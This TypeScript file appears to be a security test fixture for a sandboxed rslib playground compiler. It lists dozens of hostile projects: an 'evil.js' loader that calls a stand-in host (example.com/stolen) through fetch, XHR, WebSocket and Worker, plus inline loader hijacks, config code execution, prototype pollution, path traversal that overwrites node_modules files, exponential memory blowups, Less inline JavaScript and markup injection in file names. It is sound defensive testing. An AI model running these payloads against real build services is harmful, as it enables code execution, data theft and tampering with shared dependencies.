import type { ProjectFiles } from 'rslib-playground/build';

const evil = `const home = 'https://example.com/stolen';
globalThis.__reached = true;
try { fetch(home); } catch {}
try { new XMLHttpRequest().open('GET', home); } catch {}
try { new WebSocket('wss://example.com'); } catch {}
try { new Worker(home); } catch {}
module.exports = function (source) { globalThis.__reached = true; fetch(home); return source; };
module.exports.pitch = module.exports;
`;

const config = (value: string, imports = ''): string =>
  `import { defineConfig } from '@rslib/core';\n${imports}\nexport default defineConfig(${value});\n`;
const esm = config(`{ lib: [{ format: 'esm' }] }`);
const web = config(`{ lib: [{ format: 'esm' }], output: { target: 'web' } }`);

const project = (files: ProjectFiles, configText = esm): ProjectFiles => ({
  'package.json': '{ "name": "attack", "version": "1.0.0", "type": "module" }',
  'src/index.js': 'export const a = 1;\n',
  'src/evil.js': evil,
  'rslib.config.ts': configText,
  ...files,
});

const request = (loader: string, more: ProjectFiles = {}): ProjectFiles =>
  project({ 'src/index.js': `import x from '${loader}';\nexport { x };\n`, ...more }, web);
const css = (text: string, more: ProjectFiles = {}): ProjectFiles =>
  project({ 'src/index.js': `import './a.css';\n`, 'src/a.css': text, ...more }, web);
const withConfig = (value: string, imports?: string): ProjectFiles =>
  project({}, config(value, imports));

const node = '/node_modules';

/** Replaces the files that are on the disk in a folder of the compiler. */
const writesOver = (folder: string): ProjectFiles => {
  const names = [
    'package.json',
    'api.js',
    'getUrl.js',
    'noSourceMaps.js',
    'injectStylesIntoStyleTag.js',
    'lib.es5.d.ts',
    'lib.dom.d.ts',
    'dist/cjs.js',
  ];
  return project(
    Object.fromEntries(names.map((name) => [`over/${name}`, `${evil}/* ${name} */`])),
    config(
      `{ lib: [{ format: 'esm' }], output: { copy: [{ from: './over', to: '${folder}', force: true }] } }`,
    ),
  );
};

const less = config(
  `{ lib: [{ format: 'esm' }], output: { target: 'web' }, plugins: [pluginLess()] }`,
  `import { pluginLess } from '@rsbuild/plugin-less';`,
);
const svgr = config(
  `{ lib: [{ format: 'esm' }], output: { target: 'web' }, plugins: [pluginReact(), pluginSvgr()] }`,
  `import { pluginReact } from '@rsbuild/plugin-react';\nimport { pluginSvgr } from '@rsbuild/plugin-svgr';`,
);

/**
 * Projects that try to run code, to reach the network, to leave their folder, or to exhaust the
 * compiler.
 */
export const attacks: Record<string, ProjectFiles> = {
  'inline request of the CSS extractor': request(
    `!!${node}/@rslib/core/dist/libCssExtractLoader.js!./evil.js`,
  ),
  'inline request of css-loader': request(
    `!!${node}/@rsbuild/core/compiled/css-loader/index.js!./evil.js`,
  ),
  'inline request of a file as loader': request('!!./evil.js!./index.js'),
  'inline request of Rspack’s extractor': request(
    `!!${node}/@rspack/core/dist/cssExtractLoader.js!./evil.js`,
  ),
  'inline request of a transform': request(
    `!!${node}/@rsbuild/core/dist/transformLoader.mjs?{"id":"0"}!./evil.js`,
  ),
  'inline match resource': request('./a.css!=!./evil.js'),
  'a file under the name of css-loader’s runtime': request(
    `!!${node}/@rslib/core/dist/libCssExtractLoader.js!${node}/@rsbuild/core/compiled/css-loader/../../../../../project/src/evil.js`,
  ),
  'a loader of tools.rspack': withConfig(
    `{ lib: [{ format: 'esm' }], tools: { rspack: { module: { rules: [{ test: /\\.js$/, loader: '/project/src/evil.js' }] } } } }`,
  ),
  'a rule of type module': withConfig(
    `{ lib: [{ format: 'esm' }], tools: { rspack: { module: { rules: [{ test: /\\.js$/, use: ['file:///project/src/evil.js'], type: 'javascript/esm' }] } } } }`,
  ),
  resolveLoader: withConfig(
    `{ lib: [{ format: 'esm' }], tools: { rspack: { resolveLoader: { alias: { 'builtin:swc-loader': '/project/src/evil.js' } } } } }`,
  ),
  'a plugin by name': withConfig(
    `{ lib: [{ format: 'esm' }], tools: { rspack: { plugins: ['./src/evil.js'] } } }`,
  ),
  'a PostCSS config': css('a { color: red }', {
    'postcss.config.cjs': evil,
    'postcss.config.mjs': evil,
  }),
  'an import of ICSS': css(':import("!!./evil.js") { x: y }\n:export { z: x }\n.a { color: x }'),
  'an import of a script in CSS': css(
    '@import "./evil.js";\n@import url(https://example.com/a.css);',
  ),
  'names that end a string': css(
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a template literal in the output
    '.a { content: "`+fetch(1)+`${fetch(2)}"; }\n.b\\"\\`\\${x} { margin: 0 }',
  ),
  'a function in the config': withConfig(
    `{ lib: [{ format: 'esm' }], tools: { rspack: (c) => { fetch('/'); } } }`,
  ),
  'a constructor in the config': withConfig(`{ lib: [].constructor.constructor('fetch("/")')() }`),
  'a tagged template in the config': withConfig('{ lib: [{ format: String.raw`esm` }] }'),
  'a getter in the config': withConfig(`{ get lib() { return fetch('/'); } }`),
  '__proto__ as a key': withConfig(`{ lib: [{ format: 'esm', __proto__: { bundle: false } }] }`),
  '__proto__ as a computed key': withConfig(`{ ['__pro' + 'to__']: { polluted: 1 } }`),
  '__proto__ in JSON': project(
    { 'x.json': '{ "__proto__": { "polluted": 1 } }' },
    config('{ ...x }', `import x from './x.json';`),
  ),
  'an import of a built-in': withConfig('{ a: fs }', `import fs from 'node:fs';`),
  'a dynamic import in the config': withConfig(`{ lib: import('./src/evil.js') }`),
  'a list that doubles': project(
    {},
    `const a0 = [1, 1];\n${Array.from({ length: 40 }, (_, i) => `const a${i + 1} = [...a${i}, ...a${i}];`).join('\n')}\nexport default { lib: a40 };\n`,
  ),
  'a text that doubles': project(
    {},
    `const a0 = 'aaaaaaaaaa';\n${Array.from({ length: 40 }, (_, i) => `const a${i + 1} = a${i} + a${i};`).join('\n')}\nexport default { lib: [{ id: a40 }] };\n`,
  ),
  'ten thousand libs': withConfig(`{ lib: [${`{ format: 'esm' },`.repeat(10_000)}] }`),
  'a file path that leads out': project({ '../../node_modules/@rslib/core/package.json': '{}' }),
  'an output path that leads out': withConfig(
    `{ lib: [{ format: 'esm' }], output: { distPath: { root: '../node_modules/@rslib/core' }, cleanDistPath: true } }`,
  ),
  'an output name that leads out': withConfig(
    `{ lib: [{ format: 'esm' }], output: { filename: { js: '../../node_modules/@rsbuild/core/package.json' } } }`,
  ),
  ...Object.fromEntries(
    [
      '@rsbuild/core/compiled/css-loader',
      '@rsbuild/core/compiled/style-loader/runtime',
      '@swc/helpers',
      'less-loader',
      'typescript/lib',
      'typescript',
    ].map((folder) => [`files copied over ${folder}`, writesOver(`../../node_modules/${folder}`)]),
  ),
  'files built over a package': withConfig(
    `{ lib: [{ format: 'esm', bundle: false }], source: { entry: { index: './src/*.js' } }, output: { distPath: { root: '../node_modules/@rsbuild/core/compiled/css-loader' }, filename: { js: 'api.js' } } }`,
  ),
  'a new package beside the project': withConfig(
    `{ lib: [{ format: 'esm' }], output: { distPath: { root: '../node_modules/react' }, filename: { js: 'index.js' } } }`,
  ),
  'a config beside the project': withConfig(
    `{ lib: [{ format: 'esm' }], output: { copy: [{ from: './package.json', to: '../../tsconfig.json' }, { from: './src/evil.js', to: '../../postcss.config.cjs' }, { from: './package.json', to: '../../package.json' }] } }`,
  ),
  'functions of objects from the core': withConfig(
    `{ lib: [{ format: 'esm' }], source: assign(getPrototypeOf({}), { polluted: 1 }) }`,
    `import { assign, getPrototypeOf } from 'constructor';`,
  ),
  ...Object.fromEntries(
    ['constructor', 'toString', 'prototype'].map((name) => [
      `the key ${name} in every option`,
      withConfig(
        `{ lib: [{ format: 'esm', ...o }], ...o, source: { define: o, ...o }, output: { externals: o, ...o }, tools: { rspack: o, swc: o, postcss: o, lightningcssLoader: o, ...o }, resolve: { alias: o }, plugins: [pluginLess({ lessLoaderOptions: { lessOptions: o, ...o } }), pluginReact(o)] }`,
        `import { pluginLess } from '@rsbuild/plugin-less';\nimport { pluginReact } from '@rsbuild/plugin-react';\nconst o = { ${name}: { prototype: { polluted: 1 }, polluted: 1 } };`,
      ),
    ]),
  ),
  'prototypes in files that tools read': project(
    {
      'package.json':
        '{ "name": "attack", "type": "module", "__proto__": { "polluted": 1 }, "constructor": { "prototype": { "polluted": 1 } }, "dependencies": { "__proto__": "1", "constructor": "1" }, "sideEffects": { "__proto__": 1 } }',
      'tsconfig.json':
        '{ "compilerOptions": { "rootDir": "src", "__proto__": { "polluted": 1 }, "constructor": { "prototype": { "polluted": 1 } }, "paths": { "__proto__": ["x"] } }, "include": ["src"] }',
      'src/index.js': `import a from './a.yaml';\nimport b from './b.json';\nexport { a, b };\n`,
      'src/a.yaml': '__proto__: { polluted: 1 }\nconstructor: { prototype: { polluted: 1 } }\n',
      'src/b.json': '{ "__proto__": { "polluted": 1 } }',
    },
    config(
      `{ lib: [{ format: 'esm', dts: true }], plugins: [pluginYaml()] }`,
      `import { pluginYaml } from '@rsbuild/plugin-yaml';`,
    ),
  ),
  'properties of functions that styles share': request(
    `!!${node}/@rslib/core/dist/libCssExtractLoader.js!./marks.js`,
    {
      'src/marks.js': `import api from '${node}/@rsbuild/core/compiled/css-loader/api.js';
import url from '${node}/@rsbuild/core/compiled/css-loader/getUrl.js';
import maps from '${node}/@rsbuild/core/compiled/css-loader/noSourceMaps.js';
__webpack_require__.r(api);
__webpack_require__.d(url, { polluted: () => 1 });
__webpack_require__.d(maps, { polluted: () => 1 });
`,
    },
  ),
  'a plugin of Less': project(
    {
      'src/index.js': `import './a.less';\n`,
      'src/a.less': '@plugin "./evil.js";\n.a { width: 1px }',
    },
    less,
  ),
  'inline JavaScript of Less': project(
    {
      'src/index.js': `import './a.less';\n`,
      'src/a.less': '@x: `fetch("https://example.com")`;\n.a { width: @x }',
    },
    less.replace(
      'pluginLess()',
      'pluginLess({ lessLoaderOptions: { lessOptions: { javascriptEnabled: true } } })',
    ),
  ),
  'a config of SVGR': project(
    {
      'src/index.js': `import x from './a.svg?react';\nexport { x };\n`,
      'src/a.svg': '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch(1)</script></svg>',
      '.svgrrc.js': evil,
      'svgo.config.js': evil,
    },
    svgr,
  ),
  'a file name with markup': project({
    'src/<img src=x onerror=fetch(1)>.js': 'export {};\n',
    'src/index.js': `import './<img src=x onerror=fetch(1)>.js';\n`,
  }),
};

/** A harmless project with every kind of output, to verify that an attack has no lasting effect. */
export const honest = project(
  {
    'package.json':
      '{ "name": "honest", "version": "1.0.0", "type": "module", "peerDependencies": { "react": "*" } }',
    'tsconfig.json':
      '{ "compilerOptions": { "rootDir": "src", "lib": ["es2022"], "types": [], "jsx": "react-jsx", "moduleResolution": "bundler", "module": "esnext" }, "include": ["src"] }',
    'src/index.tsx': `// @ts-nocheck
import styles from './box.module.less';
import Icon from './icon.svg?react';
import url from './icon.svg?url';
import './page.css';
import data from './data.yaml';
export class Answer { #value?: number = 42; static { this.url = url; } }
export const Box = () => <div className={styles.box}><Icon />{data.name}</div>;
`,
    'src/box.module.less': '@width: 1px;\n.box { width: (@width * 2); &:hover { color: red } }\n',
    'src/page.css': '@import "./base.css";\n.page { background: url(./icon.svg) }\n',
    'src/base.css': 'body { margin: 0 }\n',
    'src/icon.svg': '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0h1v1z"/></svg>\n',
    'src/data.yaml': 'name: honest\n',
  },
  config(
    `{
  source: { entry: { index: './src/index.tsx' } },
  lib: [
    { format: 'esm', dts: true, syntax: 'es2017', output: { distPath: 'dist/plain' } },
    { format: 'cjs', output: { distPath: 'dist/injected', injectStyles: true, minify: true } },
  ],
  output: { target: 'web' },
  plugins: [pluginLess(), pluginReact(), pluginSvgr(), pluginYaml()],
}`,
    [
      `import { pluginLess } from '@rsbuild/plugin-less';`,
      `import { pluginReact } from '@rsbuild/plugin-react';`,
      `import { pluginSvgr } from '@rsbuild/plugin-svgr';`,
      `import { pluginYaml } from '@rsbuild/plugin-yaml';`,
    ].join('\n'),
  ),
);
delete honest['src/index.js'];
